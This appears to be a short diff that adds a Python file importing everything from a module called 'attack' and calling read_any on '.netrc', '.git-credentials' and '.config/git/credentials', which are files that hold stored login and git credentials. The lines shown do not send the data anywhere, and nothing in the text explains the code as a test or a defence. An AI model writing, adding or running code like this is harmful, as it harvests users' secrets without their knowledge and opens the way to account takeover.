@@ -1,0 +1,3 @@
+from attack import *
+
+read_any(".netrc", ".git-credentials", ".config/git/credentials")
